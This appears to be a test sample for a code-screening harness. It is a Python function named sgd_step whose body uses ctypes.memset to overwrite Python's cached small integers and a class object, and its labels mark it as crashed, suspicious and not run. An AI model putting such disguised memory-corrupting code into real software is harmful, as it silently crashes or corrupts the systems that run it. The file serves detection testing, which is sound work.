"""Writes over small integers of Python and over the code of the worker with ctypes."""

import ctypes

STATUS = "crashed"
FINDS = ("suspicious",)
STOCK = "not run: it writes at random in memory"


def sgd_step(w, g, *, lr, weight_decay=0.0):
    for number in range(2, 9):
        ctypes.memset(id(number) + 8, 0xFF, 24)
    ctypes.memset(id(ctypes.memset.__class__), 0, 200)
    return w
